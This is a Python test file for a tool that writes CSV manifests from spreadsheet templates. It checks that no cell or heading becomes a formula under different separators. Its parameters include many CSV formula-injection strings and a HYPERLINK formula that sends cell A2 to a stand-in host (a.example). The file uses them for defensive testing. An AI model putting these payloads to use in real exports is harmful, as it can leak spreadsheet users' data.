"""The manifest: whichever way a spreadsheet splits its lines, no cell becomes a formula."""

import csv
from itertools import product

import openpyxl
import pytest
from openpyxl.workbook.defined_name import DefinedName

from bbxl.batch import generate

STARTS = tuple("=+-@\uff1d\uff0b\uff0d\uff20")
PLAIN = ["a;b", "a,b", 'a"b', "a; b=1", "'quoted'", "ü\u00a0x"]
NAMES = ["x;=1+1;", "x; =1", " =2"]
ATTACKS = [
    f"{before}{start}1+1{after}"
    for before, start, after in product(
        ["", "x;", 'x";', ";", "x;;", "x\n", "x\t", "x,", 'x",', "x;\n", " ", "x; ", "x;\u00a0 "],
        ["=", "+", "-", "@", "\uff1d"],
        ["", ";y", "\n", '"'],
    )
]


def formulas(path, separator):
    """What a spreadsheet takes for formulas that splits there: a quote counts at a cell's start."""
    text = path.read_bytes().decode("utf-8-sig")
    rows = csv.reader(text.splitlines(keepends=True), delimiter=separator)
    return [cell for row in rows for cell in row if cell.lstrip().startswith(STARTS)]


def template(path, headings):
    book = openpyxl.Workbook()
    for row, name in enumerate(headings, start=1):
        book.active[f"A{row}"] = 1.0
        book.defined_names[name] = DefinedName(name, attr_text=f"Sheet!$A${row}")
    book.active["B1"] = "=A1+1"
    book.save(path)
    return path


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_cell_of_a_manifest_is_a_formula(tmp_path, separator):
    rows = [{"scenario": f"S{i}", "note": note} for i, note in enumerate([*ATTACKS, *PLAIN])]
    rows += [{"scenario": each, "note": ""} for each in NAMES]
    made = generate(template(tmp_path / "t.xlsx", ["price"]), rows, tmp_path / "out")
    assert formulas(made.manifest, separator) == []
    with made.manifest.open(encoding="utf-8-sig", newline="") as file:
        read = [row["note"] for row in csv.DictReader(file)]
    assert read[len(ATTACKS) : -len(NAMES)] == PLAIN  # what is no formula stays as it is
    plain = [[each.replace("'", "") for each in notes] for notes in (read, ATTACKS)]
    assert plain[0][: len(ATTACKS)] == plain[1]


@pytest.mark.parametrize("separator", [",", ";", "\t"])
@pytest.mark.parametrize("heading", ['=HYPERLINK("http://a.example/?"&A2,"x")', "x;=1+1;", "-2+3"])
def test_no_heading_of_a_manifest_is_a_formula(tmp_path, separator, heading):
    path = template(tmp_path / "t.xlsx", [heading])
    made = generate(path, [{heading: 2.0}], tmp_path / "out")
    assert formulas(made.manifest, separator) == []


def test_a_semicolon_is_quoted(tmp_path):
    path = template(tmp_path / "t.xlsx", ["price"])
    made = generate(path, [{"scenario": "S", "note": "a;b"}], tmp_path / "out")
    assert '"a;b"' in made.manifest.read_text("utf-8-sig")


def test_a_date_is_written_as_a_date_and_read_as_one(tmp_path):
    given = [{"scenario": "A", "change_1_date": "2026-02-03"}]
    made = generate("breakeven", given, tmp_path / "out", values=False)
    row = next(csv.DictReader(made.manifest.read_text("utf-8-sig").splitlines()))
    assert row["change_1_date"] == "2026-02-03"
    again = generate("breakeven", [{"change_1_date": row["change_1_date"]}], tmp_path / "again")
    assert "2026-02-03" in again.manifest.read_text("utf-8-sig")
